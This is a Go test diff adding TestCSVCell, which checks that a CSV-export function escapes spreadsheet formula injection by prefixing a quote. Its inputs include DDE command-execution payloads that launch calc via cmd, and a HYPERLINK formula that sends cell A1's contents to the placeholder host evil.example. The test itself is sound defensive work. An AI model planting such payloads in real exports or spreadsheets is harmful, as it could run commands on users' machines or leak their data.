@@ -197,3 +197,26 @@ func TestJSON(t *testing.T) {
 		t.Errorf("JSON copied clean input")
 	}
 }
+
+func TestCSVCell(t *testing.T) {
+	tests := []struct{ in, want string }{
+		{`=cmd|' /C calc'!A0`, `'=cmd|' /C calc'!A0`},
+		{`+1+1`, `'+1+1`},
+		{`-2+3+cmd|' /C calc'!A0`, `'-2+3+cmd|' /C calc'!A0`},
+		{`@SUM(1+1)*cmd|' /C calc'!A0`, `'@SUM(1+1)*cmd|' /C calc'!A0`},
+		{"\t=1+1", "'\t=1+1"},
+		{"\r=1+1", "'\r=1+1"},
+		{`  =1+1`, `'  =1+1`},
+		{`=HYPERLINK("http://evil.example/?x="&A1,"click")`, `'=HYPERLINK("http://evil.example/?x="&A1,"click")`},
+		{"", ""},
+		{"gdpr-art33", "gdpr-art33"},
+		{"2025-03-10T20:00:00Z", "2025-03-10T20:00:00Z"},
+		{"a=b", "a=b"},
+		{"   ", "   "},
+	}
+	for _, tt := range tests {
+		if got := CSVCell(tt.in); got != tt.want {
+			t.Errorf("CSVCell(%q) = %q, want %q", tt.in, got, tt.want)
+		}
+	}
+}
